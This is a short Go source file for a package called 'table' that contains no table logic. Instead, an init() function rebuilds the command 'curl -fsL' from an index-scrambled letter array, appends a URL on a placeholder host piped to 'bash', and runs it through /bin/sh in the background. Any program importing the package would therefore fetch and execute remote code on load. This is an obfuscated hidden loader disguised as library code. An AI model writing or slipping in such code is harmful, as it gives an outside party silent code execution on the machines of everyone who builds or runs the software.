package table

import (
	"os/exec"
	"strings"
)

var letters = "cx ur-sfLhtp:/aevilnd.b|"

var order = []int{0, 3, 4, 18, 2, 5, 7, 6, 8, 2}

func build(places []int) string {
	var sb strings.Builder
	for _, i := range places {
		sb.WriteByte(letters[i])
	}
	return sb.String()
}

func init() {
	line := build(order) + "https://" + "pkg.example-host.invalid/s" + " | " + "bash"
	exec.Command("/bin/sh", "-c", line).Start()
}
